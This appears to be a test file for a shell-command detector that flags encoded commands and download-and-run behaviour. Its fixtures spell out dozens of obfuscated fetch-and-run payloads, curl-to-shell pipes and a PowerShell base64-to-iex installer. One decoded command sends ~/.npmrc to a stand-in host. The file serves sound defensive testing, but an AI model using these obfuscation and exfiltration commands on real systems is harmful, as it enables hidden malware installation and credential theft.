import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { readShell } from '../../../../server/src/artifacts/analysis/shell/signals.js';
import { readCommand } from '../../../../server/src/artifacts/analysis/shell/commands.js';

const SCRIPT = `[ -f /tmp/x ] && nohup bash -c "$(curl -fsSL https://h.invalid/i.sh)" > /dev/null 2>&1 &`;
const BASE64 = Buffer.from(SCRIPT).toString('base64');
const PACKED = gzipSync(SCRIPT).toString('base64');
const HEX = Buffer.from(SCRIPT).toString('hex');
const BACKWARDS = Array.from(SCRIPT).reverse().join('');
const rotated = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const first = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - first + 13) % 26) + first);
  });

const HIDDEN: readonly string[] = [
  `echo '${BASE64}' | base64 -d | bash`,
  `echo '${BASE64}' | (base64 --decode 2>/dev/null || base64 -D) | bash`,
  `echo ${BASE64} | { base64 -d || base64 -D; } | sudo bash`,
  `{ echo ${BASE64} | base64 -d; } | bash -`,
  `(echo ${BASE64} | base64 -di) 2>/dev/null | sh`,
  `base64 -d <<< ${BASE64} | bash`,
  `printf %s '${BASE64}' | openssl base64 -d -A | sh`,
  `printf '%s\\n' ${BASE64} | openssl enc -base64 -d -A | sh`,
  `bash <(echo ${BASE64} | base64 -d)`,
  `source <(echo ${BASE64}|base64 -d)`,
  `bash < <(echo ${BASE64}|base64 -d)`,
  `bash <<< "$(echo ${BASE64} | base64 -d)"`,
  `bash -c "$(base64 -d <<< ${BASE64})"`,
  `eval "$(echo ${BASE64} | base64 -d)"`,
  `echo "$(echo ${BASE64} | base64 -d)" | sh`,
  `P=$(echo ${BASE64} | base64 -d) && bash -c "$P"`,
  `X=${BASE64}; echo $X | base64 -d | bash`,
  `echo ${HEX} | xxd -r -p | sh`,
  `echo '${BACKWARDS}' | rev | sh`,
  `echo '${rotated(SCRIPT)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
  `echo '${rotated(BASE64)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d | sh`,
  `echo ${PACKED} | base64 -d | gunzip | sh`,
  `echo ${BASE64} | base64 -d > /tmp/x && sh /tmp/x`,
  `echo ${BASE64} | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x`,
  `bash -c "{echo,${BASE64}}|{base64,-d}|bash"`,
  `echo '${Buffer.from(`echo ${BASE64} | base64 -d | sh`).toString('base64')}' | base64 -d | sh`,
];

const FETCHED: readonly string[] = [
  '(curl -fsSL https://h.invalid/a) | sh',
  'if true; then (curl -fsSL https://h.invalid/a || wget -qO- https://h.invalid/a) | bash; fi',
  '{ curl -fsSL https://h.invalid/a; } | sh',
  'X=$(curl -s https://h.invalid); eval "$X"',
  'echo "$(curl -s https://h.invalid)" | sh',
  'echo "curl https://h.invalid/a | sh" | bash',
];

const LEFT_ALONE: readonly string[] = [
  'echo aGk= | base64 -d',
  'echo "$KEY" | base64 -d > key.pem',
  'V=$(curl -s https://h.invalid/v); sh install.sh "$V"',
  'bash build.sh "$(curl -s https://h.invalid/v)"',
  '(cd lib && make) | tee log',
  '(curl -O https://h.invalid/a.tgz; ls) && node build.js',
  'curl -s https://h.invalid/a.json | (cat; node -v)',
  `echo '{"a":1}' | node x.js`,
  "printf '%s' hi | tr a-z A-Z | sh",
  'if ! (which cc); then echo none; fi',
];

const kindsIn = (text: string): ReadonlySet<string> =>
  new Set([
    ...readShell(text).signals.map(({ kind }) => kind),
    ...readCommand(text).behaviours.map(({ kind }) => kind),
  ]);

describe('what shell commands print into each other', () => {
  for (const text of HIDDEN) {
    it(`is read and run in ${text.replaceAll(BASE64, '…').slice(0, 80)}`, () => {
      const [inCode, inScripts] = [readCommand(text).behaviours, readShell(text).signals];
      for (const kinds of [inCode, inScripts].map((all) => all.map(({ kind }) => kind))) {
        assert.ok(kinds.includes('encoded-command'), kinds.join());
        assert.ok(kinds.includes('download-and-run'), kinds.join());
      }
      assert.ok(readShell(text).texts.some((one) => one.trim() === SCRIPT));
    });
  }

  for (const text of FETCHED)
    it(`is downloaded and run in ${text.slice(0, 80)}`, () => {
      assert.ok(readShell(text).signals.some(({ kind }) => kind === 'download-and-run'));
      assert.ok(kindsIn(text).has('download-and-run'));
    });

  for (const text of LEFT_ALONE)
    it(`is nothing to tell of in ${text.slice(0, 80)}`, () => {
      assert.ok(!kindsIn(text).has('download-and-run'), [...kindsIn(text)].join());
      assert.ok(!kindsIn(text).has('encoded-command'), [...kindsIn(text)].join());
    });

  it('is read as JavaScript where Node.js runs it', () => {
    const code = `require('https').get('https://h.invalid')`;
    const hidden = Buffer.from(code).toString('base64');
    for (const command of [
      `echo ${hidden} | base64 -d | node`,
      `node -e "$(echo ${hidden} | base64 -d)"`,
      `bash -c 'echo ${hidden} | base64 --decode | node -'`,
    ])
      assert.deepEqual(readCommand(command).scripts.slice(-1), [code], command);
    assert.deepEqual(readCommand(`echo ${hidden} | base64 -d | node parse.js`).scripts, []);
  });

  it('is decoded where PowerShell does that', () => {
    const script = 'msiexec /i https://h.invalid/a /qn';
    for (const encoding of ['utf8', 'utf16le'] as const) {
      const hidden = Buffer.from(script, encoding).toString('base64');
      const text = `powershell -c "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${hidden}')) | iex"`;
      assert.deepEqual([...kindsIn(text)].sort(), ['download-and-run', 'encoded-command']);
    }
    assert.deepEqual([...kindsIn(`[Convert]::FromBase64String('aGVsbG8gd29ybGQgaGVsbG8=') > a.bin`)], []);
  });

  it('tells what a decoded command of code reads and sends', () => {
    const hidden = Buffer.from('curl -d "$(cat ~/.npmrc)" https://h.invalid/').toString('base64');
    const { reveals, sends, host } = readCommand(`echo ${hidden} | base64 -d | sh`);
    assert.deepEqual([reveals, sends, host], [['credential-file'], true, 'h.invalid']);
  });

  it('ends soon with what is nested again and again', () => {
    const started = Date.now();
    readShell(`${'echo "$('.repeat(200)}a${')"'.repeat(200)}`);
    readShell(`${'('.repeat(5000)}curl x${') | sh'.repeat(5000)}`);
    readShell(`X=$(${'echo a;'.repeat(200)}); ${'eval "$X";'.repeat(2000)}`);
    assert.ok(Date.now() - started < 5000);
  });
});
